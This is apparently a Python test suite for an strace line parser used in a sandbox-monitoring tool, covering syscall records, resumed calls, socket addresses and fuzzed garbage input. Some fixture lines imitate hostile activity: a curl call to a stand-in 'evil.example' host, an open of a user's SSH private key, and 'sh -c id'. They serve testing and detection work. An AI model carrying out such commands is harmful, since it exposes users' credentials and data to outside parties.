"""The strace line parser: real line shapes, hostile strings, and garbage that must not raise."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from slave.findings.strace import (
    MAX_ARGS,
    LineKind,
    TraceParser,
    annotation,
    fd_peer,
    sockaddr,
    string_array,
    unquote,
)


def parse_one(line: str) -> list:  # type: ignore[type-arg]
    return TraceParser().parse(line)


def test_openat_with_fd_annotations() -> None:
    """A -yy openat gives its args, the fd result and the resolved path of the result."""
    (rec,) = parse_one(
        '3437  openat(AT_FDCWD</tmp/run>, "/etc/ld.so.cache", O_RDONLY|O_CLOEXEC)'
        " = 3</etc/ld.so.cache>"
    )
    assert rec.kind is LineKind.SYSCALL
    assert (rec.pid, rec.name) == (3437, "openat")
    assert rec.args == ("AT_FDCWD</tmp/run>", '"/etc/ld.so.cache"', "O_RDONLY|O_CLOEXEC")
    assert (rec.retval, rec.ret_path, rec.errno) == (3, "/etc/ld.so.cache", None)
    assert annotation(rec.args[0]) == "/tmp/run"


def test_error_result_gives_errno() -> None:
    """'= -1 ENOENT (...)' sets retval -1 and errno; the call counts as failed."""
    (rec,) = parse_one('12 execve("/usr/bin/curl", ["curl"], 0x7ff /* 3 vars */) = -1 ENOENT (No)')
    assert (rec.retval, rec.errno, rec.failed) == (-1, "ENOENT", True)


def test_unfinished_and_resumed_are_joined() -> None:
    """An <unfinished ...> call is held and completed by its <... resumed> half of the same pid."""
    parser = TraceParser()
    first = parser.parse(
        '7 execve("/bin/sh", ["sh", "-c", "id"], 0x1 /* 2 vars */ <unfinished ...>'
    )
    assert [r.kind for r in first] == [LineKind.UNFINISHED]
    other = parser.parse("8 +++ exited with 0 +++")
    assert other[0].kind is LineKind.EXITED
    (rec,) = parser.parse("7 <... execve resumed>)             = 0")
    assert rec.name == "execve"
    assert string_array(rec.args[1]) == ["sh", "-c", "id"]
    assert rec.retval == 0


def test_resumed_args_continue_the_held_ones() -> None:
    """Args printed after 'resumed>' append to those printed before <unfinished ...>."""
    parser = TraceParser()
    parser.parse("5 connect(3<UDP:[9]>,  <unfinished ...>")
    (rec,) = parser.parse(
        "5 <... connect resumed>{sa_family=AF_INET, sin_port=htons(53), "
        'sin_addr=inet_addr("8.8.8.8")}, 16) = 0'
    )
    assert rec.name == "connect"
    addr = sockaddr(rec.args[1])
    assert addr is not None
    assert (addr.address, addr.port) == ("8.8.8.8", 53)


def test_resumed_without_its_head_is_still_a_call() -> None:
    """A resumed half whose head was never seen still parses as that syscall, result and all."""
    (rec,) = parse_one("9 <... vfork resumed>)  = 4242")
    assert (rec.kind, rec.name, rec.retval) == (LineKind.SYSCALL, "vfork", 4242)


def test_process_death_flushes_the_held_call() -> None:
    """A pid killed inside a call: its held half comes out (no result) before the kill line."""
    parser = TraceParser()
    parser.parse('4 openat(AT_FDCWD, "/home/tester/.ssh/id_rsa", O_RDONLY <unfinished ...>')
    recs = parser.parse("4 +++ killed by SIGKILL +++")
    assert [r.kind for r in recs] == [LineKind.SYSCALL, LineKind.KILLED]
    assert recs[0].name == "openat"
    assert recs[0].retval is None
    assert recs[1].signal == "SIGKILL"


def test_exit_signal_and_prefix_forms() -> None:
    """Exit codes, signals, [pid N] prefixes and timestamps are understood."""
    assert parse_one("1 +++ exited with 3 +++")[0].exit_code == 3
    assert parse_one("1 +++ killed by SIGSEGV (core dumped) +++")[0].signal == "SIGSEGV"
    sig = parse_one("1 --- SIGCHLD {si_signo=SIGCHLD} ---")[0]
    assert (sig.kind, sig.signal) == (LineKind.SIGNAL, "SIGCHLD")
    (rec,) = parse_one("[pid  77] 1700000000.123456 socket(AF_INET, SOCK_STREAM, IPPROTO_IP) = 3")
    assert (rec.pid, rec.name, rec.args[0]) == (77, "socket", "AF_INET")


def test_quoted_strings_with_escapes() -> None:
    """Escaped quotes, backslashes, hex, octal and a '...' truncation mark decode correctly."""
    assert unquote(r'"a\"b\\c\x41\101\n"...') == 'a"b\\cAA\n'
    assert unquote(r'"caf\303\251"') == "café"
    assert unquote("AT_FDCWD") is None
    assert unquote('"unterminated') == "unterminated"


def test_commas_and_brackets_inside_strings_do_not_split() -> None:
    """Quoted commas, brackets and parens stay inside their argument."""
    (rec,) = parse_one(
        r'3 execve("/bin/sh", ["sh", "-c", "echo a, b) [c] \"d,\" <e>"], 0x1 /* 1 var */) = 0'
    )
    assert len(rec.args) == 3
    assert string_array(rec.args[1]) == ["sh", "-c", 'echo a, b) [c] "d," <e>']


def test_socket_and_device_annotations() -> None:
    """Socket notes with '->' and nested device notes do not break argument splitting."""
    line = "6 sendmmsg(4<UDP:[10.0.2.15:4000->8.8.8.8:53]>, [{msg_hdr={msg_name=NULL}}], 2, 0) = 2"
    (rec,) = parse_one(line)
    assert len(rec.args) == 4
    peer = fd_peer(rec.args[0])
    assert peer is not None
    assert (peer.address, peer.port) == ("8.8.8.8", 53)
    (dev,) = parse_one('6 openat(AT_FDCWD, "/dev/null", O_WRONLY) = 5</dev/null<char 1:3>>')
    assert dev.ret_path == "/dev/null"
    v6 = fd_peer("3<TCPv6:[[::1]:5000->[2001:db8::1]:443]>")
    assert v6 is not None
    assert (v6.family, v6.address, v6.port) == ("AF_INET6", "2001:db8::1", 443)


def test_sockaddr_families() -> None:
    """IPv4, IPv6 and UNIX socket addresses parse; loopback is recognised."""
    v4 = sockaddr('{sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("127.0.0.1")}')
    assert v4 is not None
    assert (v4.port, v4.is_loopback, str(v4)) == (80, True, "127.0.0.1:80")
    v6 = sockaddr(
        "{sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), "
        'inet_pton(AF_INET6, "2a04:4e42::223", &sin6_addr), sin6_scope_id=0}'
    )
    assert v6 is not None
    assert (v6.address, v6.is_loopback, str(v6)) == (
        "2a04:4e42::223",
        False,
        "[2a04:4e42::223]:443",
    )
    unix = sockaddr('{sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}')
    assert unix is not None
    assert (unix.family, unix.address, unix.is_inet) == ("AF_UNIX", "/var/run/nscd/socket", False)


def test_truncated_line_keeps_what_it_has() -> None:
    """A line cut mid-arguments is still a syscall with the arguments seen so far, no result."""
    (rec,) = parse_one('2 execve("/usr/bin/curl", ["curl", "http://evil.example/x?a=')
    assert rec.name == "execve"
    assert unquote(rec.args[0]) == "/usr/bin/curl"
    assert rec.retval is None


def test_huge_line_is_bounded() -> None:
    """A multi-megabyte line parses without error and with bounded args."""
    line = "1 openat(" + ", ".join(["x"] * 200_000) + ") = 3"
    (rec,) = parse_one(line)
    assert len(rec.raw) <= 64 * 1024
    assert len(rec.args) <= MAX_ARGS


def test_pending_calls_are_bounded() -> None:
    """Unfinished calls of many pids never grow the parser past its limit."""
    parser = TraceParser(max_pending=10)
    for pid in range(1000):
        parser.parse(f"{pid} vfork( <unfinished ...>")
    assert len(parser.pending_forks()) == 10


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_garbage_never_raises(text: str) -> None:
    """Any text at all parses to records without raising."""
    parser = TraceParser()
    for rec in parser.parse(text):
        assert rec.kind in LineKind
    for part in text.split(","):
        unquote(part)
        annotation(part)
        sockaddr(part)
        fd_peer(part)
        string_array(part)


FRAGMENTS = st.sampled_from(
    [
        "1 ",
        "[pid 2] ",
        "openat(",
        "execve(",
        "<... openat resumed>",
        " <unfinished ...>",
        '"',
        '\\"',
        "\\x4",
        "\\",
        "<",
        ">",
        "[",
        "]",
        "{",
        "}",
        "(",
        ")",
        ", ",
        " = ",
        "-1 ENOENT (x)",
        "3</a>",
        "<TCP:[1->2:",
        "+++ exited with ",
        "+++ killed by SIG",
        "sa_family=AF_INET, sin_port=htons(99999999)",
        "0x",
        "99999999999999999999999",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(FRAGMENTS, max_size=12).map("".join), max_size=8))
def test_strace_like_garbage_never_raises(lines: list[str]) -> None:
    """Lines made of strace syntax in hostile orders parse without raising, across lines."""
    parser = TraceParser(max_pending=4)
    for line in lines:
        for rec in parser.parse(line):
            assert isinstance(rec.raw, str)
